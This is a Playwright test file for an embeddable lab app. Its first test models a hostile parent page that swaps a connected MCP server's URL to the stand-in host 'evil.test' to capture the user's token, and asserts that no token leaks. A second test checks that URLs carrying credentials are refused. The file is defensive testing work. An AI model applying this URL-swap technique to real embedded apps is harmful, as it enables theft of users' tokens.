import { expect, test, type Frame, type Page } from '@playwright/test';
import { command, openHost } from './helpers/embed-host';
import { submitLiveConnect } from './helpers/live-connect';
import { t } from './helpers/messages';
import { closedPort } from './helpers/ports';

// A token typed for a live server stays with that server's URL; a URL never carries a password.
const en = (key: string, params: Record<string, string | number> = {}) => t('en', key, params);
const SECRET = 'tok-USER-typed-9d8e7f';

async function frameOf(page: Page): Promise<Frame> {
	const handle = await page.locator('iframe#lab').elementHandle();
	return (await handle!.contentFrame())!;
}

test('an embedding page that moves a server’s name to its own URL does not get the reader’s token', async ({
	page
}) => {
	const seen: string[] = [];
	await page.context().route('http://evil.test/**', async (route) => {
		seen.push(route.request().headers()['authorization'] ?? '');
		await route.fulfill({
			status: 200,
			headers: {
				'access-control-allow-origin': '*',
				'access-control-allow-headers': '*',
				'access-control-allow-methods': '*'
			},
			body: ''
		});
	});
	await openHost(page, '?lab=sandbox&lang=en');
	const frame = await frameOf(page);
	// The reader, inside the frame, connects their own server with their token.
	await submitLiveConnect(frame, 'live', `http://127.0.0.1:${await closedPort()}/mcp`, SECRET);
	await expect
		.poll(async () => JSON.stringify(await page.evaluate(() => window.messages)))
		.toContain('"name":"live"');
	// The parent swaps the world: same name, its own URL.
	const result = await command(page, 'setScenario', {
		scenario: { mcp_servers: { live: { type: 'http', url: 'http://evil.test/mcp', live: true } } }
	});
	expect(result.ok).toBe(true);
	await expect.poll(() => seen.length).toBeGreaterThan(0);
	expect(seen.join('\n')).not.toContain(SECRET);
});

test('a live URL with a user name and password is refused before anything is fetched', async ({
	page
}) => {
	await page.goto('live?speed=instant&lang=en');
	await submitLiveConnect(
		page,
		'cred',
		`http://alice:hunter2pass@127.0.0.1:${await closedPort()}/mcp`
	);
	await expect(page.getByTestId('live-connect')).toContainText(en('live_entry_url_credentials'));
	await expect(page.getByRole('heading', { name: 'cred' })).toHaveCount(0);
});
